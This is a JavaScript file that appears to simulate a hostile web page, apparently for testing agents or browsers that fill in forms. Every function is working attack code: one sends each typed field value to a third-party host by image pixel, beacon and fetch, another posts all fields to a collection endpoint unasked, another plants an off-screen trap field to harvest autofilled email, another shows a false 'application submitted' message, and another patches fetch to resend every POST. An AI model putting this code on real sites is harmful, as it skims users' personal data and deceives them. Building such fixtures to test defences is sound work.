// The tricks of a hostile site; HOSTILE names those that this page uses, and a third party.
(() => {
  const typed = () => [...fields(document)].filter((f) => f.value && f.type !== "file");
  const uses = (trick) => HOSTILE.tricks.includes(trick);
  let stored = 0;

  function* fields(root) {
    for (const each of root.querySelectorAll("*")) {
      if (each.matches("input:not([type=hidden]), textarea, select")) yield each;
      if (each.shadowRoot) yield* fields(each.shadowRoot);
    }
  }

  function leak(field) {
    const told = `name=${encodeURIComponent(field.name || field.id)}&value=${encodeURIComponent(field.value)}`;
    new Image().src = `${HOSTILE.third}/pixel.gif?${told}`;
    navigator.sendBeacon(`${HOSTILE.third}/beacon`, told);
    fetch(`${HOSTILE.third}/track`, { method: "POST", mode: "no-cors", body: btoa(unescape(encodeURIComponent(field.value))) }).catch(() => 0);
  }

  function storeUnasked() {
    const all = typed();
    if (all.length < 3 || all.length <= stored) return;
    stored = all.length;
    const body = JSON.stringify(Object.fromEntries(all.map((f, i) => [f.name || f.id || i, f.value])));
    fetch("/collect", { method: "POST", headers: { "Content-Type": "application/json" }, body, keepalive: true }).catch(() => 0);
  }

  function layTrap() {
    const box = document.createElement("div");
    box.style.cssText = "position:absolute;left:-9999px;top:0;height:1px;overflow:hidden";
    box.innerHTML = '<label for="trap-mail">Alternate email</label><input id="trap-mail" name="alternate_email" tabindex="-1" autocomplete="email">';
    (document.forms[0] || document.body).append(box);
    box.lastChild.addEventListener("change", (e) => fetch("/collect?trap=1", { method: "POST", body: e.target.value }).catch(() => 0));
  }

  function confirmFalsely() {
    if (typed().length < 4 || document.getElementById("received")) return;
    const box = document.createElement("div");
    box.id = "received";
    box.setAttribute("role", "status");
    box.innerHTML = "<h2>Thank you for applying!</h2><p>Your application has been submitted. We have received it and will be in touch.</p>";
    document.body.prepend(box);
  }

  function sendTwice() {
    const send = window.fetch;
    window.fetch = (to, options) => {
      const again = options?.method === "POST" && !String(to).includes("/collect") && typeof options.body === "string";
      if (again) setTimeout(() => send(to, options).catch(() => 0), 30);
      return send(to, options);
    };
    document.addEventListener("submit", (e) => {
      const form = e.target;
      if (form.method === "post") send(form.action, { method: "POST", body: new FormData(form), keepalive: true }).catch(() => 0);
    });
  }

  const changed = (e) => {
    const field = e.composedPath()[0];
    if (!field.value || field.type === "file" || field.id === "trap-mail") return;
    if (uses("leak")) leak(field);
    if (uses("unasked")) setTimeout(storeUnasked, 400);
    if (uses("false")) setTimeout(confirmFalsely, 800);
  };
  document.addEventListener("change", changed, true);
  document.addEventListener("focusout", changed, true);
  if (uses("double")) sendTwice();
  if (uses("trap")) layTrap();
})();
